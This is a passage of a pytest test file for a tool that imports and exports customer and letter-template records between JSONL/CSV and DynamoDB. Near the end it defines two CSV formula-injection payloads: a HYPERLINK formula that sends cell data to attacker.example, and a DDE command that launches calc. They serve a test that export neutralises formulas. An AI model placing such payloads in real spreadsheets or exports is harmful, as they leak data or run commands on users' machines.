    assert log.getvalue() == "200 of 250 rows: 200 written, 0 unchanged, 0 bad\n"
    short = io.StringIO()
    import_file(SAMPLES / "customers.csv", InMemoryRepository(), log=short)
    assert short.getvalue() == ""


def test_a_csv_file_may_leave_out_columns_and_order_them_as_it_likes(
    aws: AWS, run: Any, tmp_path: Path
) -> None:
    path = csv_file(
        tmp_path,
        "id,name,kind",
        "ann,Ann,customer",
        "Note,,template",  # a template without a text column: its text is empty
        "bob,,customer",
        name="few.csv",
    )

    summary = run(path)

    assert summary.problems == [Problem(4, "name must be longer than or equal to 1 characters")]
    assert counts(summary) == (3, 2, 0, 1, 0, 0)
    assert without_version(catalog(aws)) == SEEDED | {
        "C#ann": {"PK": {"S": "C#ann"}, "data": {"S": "Ann"}},
        "D#Note": {"PK": {"S": "D#Note"}, "data": {"S": ""}},
    }


@pytest.mark.parametrize(
    "header", ["kind,customerId,name", "id,name", "kind,id,name,name", "kind,id,name,email"]
)
def test_a_csv_header_with_unknown_or_repeated_columns_or_no_kind_or_id_is_refused(
    aws: AWS, run: Any, tmp_path: Path, header: str
) -> None:
    path = csv_file(tmp_path, header, "customer,a,A", name="wrong.csv")

    with pytest.raises(FileError) as refused:
        run(path)

    assert str(refused.value) == (
        f"{path}: the first line must be the header kind,id,name,text,greeting,description,"
        "locale,markup,pageSize,letterhead,attributes,address "
        "(or kind, id and any of the others, in any order)"
    )
    assert stored(aws) == SEEDED


# Files that cannot be used at all


def test_files_that_cannot_be_read_change_nothing(aws: AWS, run: Any, tmp_path: Path) -> None:
    wrong_header = tmp_path / "wrong.csv"
    wrong_header.write_text("kind,customerId,name\ncustomer,a,A\n", encoding="utf-8")
    latin1 = tmp_path / "latin1.jsonl"
    latin1.write_bytes(
        json.dumps(customer("a", "A")).encode() + b"\n" + '{"name": "Zoë"}'.encode("latin-1")
    )

    with pytest.raises(FileError, match="must be the header kind,id,name,text,greeting,"):
        run(wrong_header)
    with pytest.raises(FileError, match="not UTF-8 text"):
        run(latin1)
    with pytest.raises(FileError, match="No such file or directory"):
        run(tmp_path / "missing.jsonl")
    with pytest.raises(FileError, match=r"must end in \.jsonl or \.csv"):
        run(tmp_path / "rows.json")
    assert stored(aws) == SEEDED


# Exporting


def test_jsonl_export_then_import_into_an_empty_table_gives_the_same_items(
    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO, slept: list[float]
) -> None:
    sample = SAMPLES / "customers-and-templates.jsonl"
    run(sample)
    exported = tmp_path / "export.jsonl"

    summary = export_file(exported, on_table(slept), log=log)

    assert summary.line() == "exported 10 rows: 5 customers, 5 templates"
    assert summary.exit_code == 0
    lines = exported.read_text(encoding="utf-8").splitlines()
    as_rows = [json.loads(line, parse_float=Decimal) for line in lines]
    sample_rows = [
        json.loads(line, parse_float=Decimal)
        for line in sample.read_text(encoding="utf-8").splitlines()
    ]
    # Sorted: customers, then templates, each by id.
    assert [row.get("customerId") or row["docType"] for row in as_rows] == [
        "TestCustomer", "Yamada_Taro", "ZoeLukasz", "acme-ltd", "jane.doe",
        "AccountSummary", "Membership", "Notice", "Renewal", "Welcome",
    ]  # fmt: skip
    assert sorted(as_rows, key=str) == sorted(sample_rows, key=str)
    assert lines[2] == (
        '{"kind": "customer", "customerId": "ZoeLukasz", "name": "Zoë Łukasz Ωμέγα Дмитрий", '
        '"attributes": {"city": "Kraków", "plan": "gold", "visits": 12}}'
    )
    assert '"discount": 0.15, "active": true, "vat_id": null' in lines[3]

    create_table(aws.dynamodb, "docgen-copy")
    copied = run(exported, repository=on_table(slept, "docgen-copy"))
    assert counts(copied) == (10, 10, 0, 0, 0, 0)
    assert without_version(catalog(aws, "docgen-copy")) == without_version(catalog(aws))
    again = tmp_path / "again.jsonl"
    export_file(again, on_table(slept, "docgen-copy"), log=log)
    assert again.read_bytes() == exported.read_bytes()
    assert log.getvalue() == ""


def test_csv_export_then_import_into_an_empty_table_gives_the_same_items(
    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO, slept: list[float]
) -> None:
    assert counts(run(SAMPLES / "customers.csv")) == (5, 4, 1, 0, 0, 0)
    exported = tmp_path / "export.csv"

    summary = export_file(exported, on_table(slept), log=log)

    assert summary.line() == "exported 6 rows: 4 customers, 2 templates"
    assert exported.read_bytes().startswith(
        b"kind,id,name,text,greeting,description,locale,markup,pageSize,letterhead,"
        b"attributes,address\r\n"
        b"customer,TestCustomer,Testing Customer,,,,,,,,,\r\n"
    )
    create_table(aws.dynamodb, "docgen-copy")
    assert counts(run(exported, repository=on_table(slept, "docgen-copy"))) == (6, 6, 0, 0, 0, 0)
    assert without_version(catalog(aws, "docgen-copy")) == without_version(catalog(aws))
    assert stored(aws, "docgen-copy")["D#PlanReminder"]["data"] == {
        "S": 'Your plan: {{ attributes.plan | default("none") }}.\n'
        "{% for key, value in attributes|dictsort %}- {{ key }}: {{ value }}\n{% endfor %}"
    }
    assert log.getvalue() == ""


def test_a_templates_locale_goes_through_both_formats_and_a_bad_one_is_a_bad_row(
    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO, slept: list[float]
) -> None:
    unknown = "is not one docgen knows; use a BCP 47 tag such as de-DE"
    from_jsonl = run(
        jsonl(
            tmp_path,
            template("German", "Hallo", locale="de-DE"),
            template("Unknown", "x", locale="xx-YY"),
            template("Long", "x", locale="a" * 36),
        )
    )
    from_csv = run(
        csv_file(tmp_path, "kind,id,text,locale", "template,Swiss,Grüezi,de_CH", "template,Bad,x,@")
    )

    assert from_jsonl.problems == [
        Problem(2, f"locale 'xx-YY' {unknown}"),
        Problem(3, "locale must be shorter than or equal to 35 characters"),
    ]
    assert from_csv.problems == [Problem(3, f"locale '@' {unknown}")]
    assert stored(aws)["D#German"]["locale"] == {"S": "de-DE"}  # as given
    assert stored(aws)["D#Swiss"]["locale"] == {"S": "de_CH"}
    for name in ("export.jsonl", "export.csv"):
        exported = tmp_path / name
        export_file(exported, on_table(slept), log=log)
        copy = f"docgen-{exported.suffix[1:]}"
        create_table(aws.dynamodb, copy)
        assert counts(run(exported, repository=on_table(slept, copy))) == (4, 4, 0, 0, 0, 0)
        assert without_version(catalog(aws, copy)) == without_version(catalog(aws))
    exported_rows = (tmp_path / "export.jsonl").read_text(encoding="utf-8").splitlines()
    assert '{"kind": "template", "docType": "German", "text": "Hallo", "locale": "de-DE"}' in (
        exported_rows
    )
    exported_csv = (tmp_path / "export.csv").read_bytes().decode("utf-8")
    assert "template,Swiss,,Grüezi,,,de_CH,,,,,\r\n" in exported_csv.splitlines(keepends=True)
    assert log.getvalue().splitlines() == [
        f"{tmp_path / 'rows.jsonl'}:2: locale 'xx-YY' {unknown}",
        f"{tmp_path / 'rows.jsonl'}:3: locale must be shorter than or equal to 35 characters",
        f"{tmp_path / 'rows.csv'}:3: locale '@' {unknown}",
    ]  # the exports and their imports said nothing


def test_csv_export_warns_about_what_csv_cannot_hold(
    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO, slept: list[float]
) -> None:
    run(jsonl(tmp_path, template("Bare", "x", greeting="")))

    summary = export_file(tmp_path / "out.csv", on_table(slept), "templates", log=log)

    assert summary.line() == "exported 2 rows: 0 customers, 2 templates, 1 warnings"
    assert summary.exit_code == 1
    assert log.getvalue() == (
        "warning: template Bare: its greeting is empty, which CSV cannot tell from absent; "
        "export to .jsonl to keep it\n"
    )


def test_export_by_kind_and_what_it_cannot_export(
    aws: AWS, tmp_path: Path, log: io.StringIO, slept: list[float]
) -> None:
    aws.put_item(PK={"S": "C#nameless"})
    aws.put_item(PK={"S": "C#bad id"}, data={"S": "Odd"})
    aws.put_item(PK={"S": "X#other"}, data={"S": "not ours"})
    path = tmp_path / "customers.jsonl"

    summary = export_file(path, on_table(slept), "customers", log=log)

    assert summary.line() == "exported 2 rows: 2 customers, 0 templates, 2 warnings"
    assert path.read_text(encoding="utf-8") == (
        '{"kind": "customer", "customerId": "TestCustomer", "name": "Testing Customer"}\n'
        '{"kind": "customer", "customerId": "bad id", "name": "Odd"}\n'
    )
    assert sorted(log.getvalue().splitlines()) == [
        "warning: C#bad id: exported, but importing it would fail: customerId must be 1 to 64 "
        "characters of A-Z, a-z, 0-9, '_', '.' or '-', starting with a letter or a digit",
        'warning: C#nameless: skipped, not an item this tool can write (TypeError("Customer.'
        "__init__() missing 1 required positional argument: 'name'\"))",
    ]


# The command line


def test_the_command_line(
    aws: AWS, tmp_path: Path, capsys: pytest.CaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("DYNAMODB_TABLE_NAME", raising=False)  # so --stage dev names the table
    sample = str(SAMPLES / "customers-and-templates.jsonl")

    assert importer.main(["import", sample, "--stage", "dev"]) == 0
    assert capsys.readouterr() == ("imported 10 rows: 8 written, 2 unchanged, 0 bad\n", "")
    exported = tmp_path / "out.jsonl"
    assert importer.main(["export", str(exported), "--stage", "dev", "--kind", "templates"]) == 0
    assert capsys.readouterr() == ("exported 5 rows: 0 customers, 5 templates\n", "")
    assert len(exported.read_text(encoding="utf-8").splitlines()) == 5

    assert importer.main(["import", str(tmp_path / "missing.csv"), "--stage", "dev"]) == 2
    assert capsys.readouterr().err == (
        f"import: {tmp_path / 'missing.csv'}: No such file or directory\n"
    )
    assert importer.main(["import", sample, "--stage", "dev", "--table", "nope"]) == 2
    assert "import: stopped: table nope: " in capsys.readouterr().err
    with pytest.raises(SystemExit) as exit_info:
        importer.main(["import", sample, "--stage", "prod", "--endpoint-url", "http://x"])
    assert exit_info.value.code == 2
    assert "--endpoint-url is for --stage local only" in capsys.readouterr().err


# The samples


def test_every_sample_template_renders_for_every_sample_customer(
    run: Any, slept: list[float]
) -> None:
    run(SAMPLES / "customers-and-templates.jsonl")
    run(SAMPLES / "customers.csv")
    stored_records = records(on_table(slept)).values()
    customers = [record for record in stored_records if isinstance(record, Customer)]
    templates = [record for record in stored_records if isinstance(record, Template)]
    letters = {
        (c.customer_id, t.doc_type): render_letter(c, t, NOW.date())
        for c in customers
        for t in templates
    }

    assert len(letters) == 5 * 6
    assert letters["TestCustomer", "Welcome"] == "Dear Testing Customer;\n\nHello and Welcome!\n"
    assert letters["ZoeLukasz", "AccountSummary"] == (
        "Hello Zoë Łukasz Ωμέγα Дмитрий,\nHere is what we hold for customer ZoeLukasz:\n"
        "- city: Kraków\n- plan: gold\n- visits: 12\n"
    )
    assert letters["jane.doe", "Notice"] == (
        "NOTICE (Notice): our offices are closed on public holidays.\n"
    )
    assert letters["ZoeLukasz", "Membership"].splitlines()[:7] == [
        "Dear Zoë Łukasz Ωμέγα Дмитрий,",
        "",
        "Thank you for being a member of our club in Kraków. This letter confirms your "
        "membership and sets out what it includes.",
        "",
        "Your plan: gold",
        "Visits so far this year: 12",
        "Member number: ZoeLukasz",
    ]
    assert "Your plan: free\nMember number: jane.doe\n" in letters["jane.doe", "Membership"]
    assert (
        "Your plan: standard\nMember number: TestCustomer\n"
        in (letters["TestCustomer", "Membership"])
    )
    assert letters["Yamada_Taro", "Renewal"] == (
        "Dear 山田太郎,\nYour plan renews next month.\nThank you for staying with us.\n"
    )


def test_in_csv_a_greeting_that_renders_to_nothing_means_no_greeting_line(
    run: Any, tmp_path: Path, slept: list[float]
) -> None:
    path = csv_file(
        tmp_path,
        "kind,id,name,text,greeting,description,attributes",
        "template,Plain,,Just the text.,{#-#},,",
        name="no-greeting.csv",
    )
    run(path)

    stored_records = records(on_table(slept))
    letter = render_letter(stored_records["C#TestCustomer"], stored_records["D#Plain"], NOW.date())
    assert letter == "Just the text."


# CSV cells a spreadsheet would run

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Click")'
CALC = "+cmd|' /C calc'!A0"


def test_csv_export_neutralises_formulas_and_imports_them_back_exactly(
    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO, slept: list[float]
) -> None:
    run(
        jsonl(
            tmp_path,
            customer("link", HYPERLINK, link=HYPERLINK),
            customer("calc", CALC, calc=CALC),
            customer("quoted", "'Tis", note="''twice"),
            customer("marked", "'=not a formula"),
            customer("minus", "-5", at="@SUM(A1)"),
            template("Tabbed", "\tindented", greeting="\r\nDear {{ name }}", description="=1+1"),
        )
    )
    exported = tmp_path / "export.csv"

    export_file(exported, on_table(slept), log=log)

    text = exported.read_bytes().decode("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert text.splitlines(keepends=True)[1:8] == [
        "customer,TestCustomer,Testing Customer,,,,,,,,,\r\n",
        'customer,calc,\'+cmd|\' /C calc\'!A0,,,,,,,,"{""calc"": ""+cmd|\' /C calc\'!A0""}",\r\n',
        'customer,link,"\'=HYPERLINK(""http://attacker.example/?d=""&A1,""Click"")",,,,,,,,'
        '"{""link"": ""=HYPERLINK(\\""http://attacker.example/?d=\\""&A1,\\""Click\\"")""}",\r\n',
        "customer,marked,''=not a formula,,,,,,,,,\r\n",
        'customer,minus,\'-5,,,,,,,,"{""at"": ""@SUM(A1)""}",\r\n',
        'customer,quoted,\'\'Tis,,,,,,,,"{""note"": ""\'\'twice""}",\r\n',
        "template,Tabbed,,'\tindented,\"'\r\n",
    ]
    create_table(aws.dynamodb, "docgen-copy")
    assert counts(run(exported, repository=on_table(slept, "docgen-copy"))) == (8, 8, 0, 0, 0, 0)
    assert without_version(catalog(aws, "docgen-copy")) == without_version(catalog(aws))
    assert stored(aws, "docgen-copy")["C#link"]["data"] == {"S": HYPERLINK}
    assert stored(aws, "docgen-copy")["C#calc"]["attributes"] == {"M": {"calc": {"S": CALC}}}
    assert stored(aws, "docgen-copy")["D#Tabbed"]["greeting"] == {"S": "\r\nDear {{ name }}"}
    again = tmp_path / "again.csv"
    export_file(again, on_table(slept, "docgen-copy"), log=log)
    assert again.read_bytes() == exported.read_bytes()
    assert log.getvalue() == ""


def test_a_leading_quote_is_data_unless_it_marks_a_formula_or_a_quote(
    aws: AWS, run: Any, tmp_path: Path
) -> None:
    path = csv_file(
        tmp_path,
        "kind,id,name,text,greeting,description,attributes",
        "customer,plain,'Tis,,,,",
        "customer,formula,'=1+1,,,,",
        "customer,quote,''Tis,,,,",
        "customer,bare,=1+1,,,,",
        name="quotes.csv",
    )

    assert counts(run(path)) == (4, 4, 0, 0, 0, 0)

    names = {key: item["data"]["S"] for key, item in stored(aws).items()}
    assert names["C#plain"] == "'Tis"
    assert names["C#formula"] == "=1+1"
    assert names["C#quote"] == "'Tis"
    assert names["C#bare"] == "=1+1"  # imported as written; exported, it gets its mark


def test_an_address_markup_and_page_size_go_through_both_formats(
    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO, slept: list[float]
) -> None:
    address = ["Musterstraße 1", "10115 Berlin"]
    rows = jsonl(
        tmp_path,
        customer("ann", "Ann") | {"address": address},
        template("Memo", "# Hi", markup="markdown", pageSize="Letter"),
        customer("long", "Long") | {"address": ["x"] * 7},
        template("Branded", "x", letterhead="acme"),
    )

    assert run(rows).problems == [
        Problem(3, "address must contain less than or equal to 6 items"),
        Problem(4, "not imported: letterhead acme does not exist: PUT /letterheads/acme first"),
    ]
    assert stored(aws)["C#ann"]["address"] == {"L": [{"S": line} for line in address]}
    assert stored(aws)["D#Memo"]["markup"] == {"S": "markdown"}
    for name in ("export.jsonl", "export.csv"):
        exported = tmp_path / name
        export_file(exported, on_table(slept), log=log)
        copy = f"docgen-{exported.suffix[1:]}"
        create_table(aws.dynamodb, copy)
        assert counts(run(exported, repository=on_table(slept, copy))) == (4, 4, 0, 0, 0, 0)
        assert without_version(catalog(aws, copy)) == without_version(catalog(aws))
    assert "template,Memo,,# Hi,,,,markdown,Letter,,,\r\n" in (
        (tmp_path / "export.csv").read_bytes().decode("utf-8").splitlines(keepends=True)
    )


def acme(aws: AWS, templates: int = 0) -> None:
    aws.put_item(
        PK={"S": "H#acme"}, sender={"M": {"name": {"S": "Acme"}}}, templates={"N": str(templates)}
    )


def test_templates_naming_a_letterhead_are_imported_and_counted_against_its_delete(
    aws: AWS, run: Any, tmp_path: Path
) -> None:
    acme(aws)
    first = run(jsonl(tmp_path, template("Branded", "x", letterhead="acme"), template("P", "y")))
    counted = stored(aws)["H#acme"]["templates"]
    again = run(jsonl(tmp_path, template("Branded", "x2"), name="again.jsonl"))

    assert (counts(first), counts(again)) == ((2, 2, 0, 0, 0, 0), (1, 1, 0, 0, 0, 0))
    assert counted == {"N": "1"}
    assert stored(aws)["H#acme"]["templates"] == {"N": "0"}
    assert stored(aws)["D#Branded"]["data"] == {"S": "x2"}
    assert "letterhead" not in stored(aws)["D#Branded"]


def test_a_template_naming_a_letterhead_created_since_it_was_read_is_a_conflict(
    aws: AWS, run: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Read as absent, written on condition it still is: another writer's template stays."""
    acme(aws, templates=1)
    aws.put_item(
        PK={"S": "D#Branded"}, data={"S": "theirs"}, letterhead={"S": "acme"}, version={"N": "1"}
    )
    monkeypatch.setattr(DynamoDBRepository, "get_many", lambda *_: {})

    summary = run(jsonl(tmp_path, template("Branded", "ours", letterhead="acme")))

    assert (summary.conflicted, summary.problems) == (
        1,
        [
            Problem(
                1, "not imported: template Branded changed since it was read; run the import again"
            )
        ],
    )
    assert stored(aws)["D#Branded"]["data"] == {"S": "theirs"}
    assert stored(aws)["H#acme"]["templates"] == {"N": "1"}
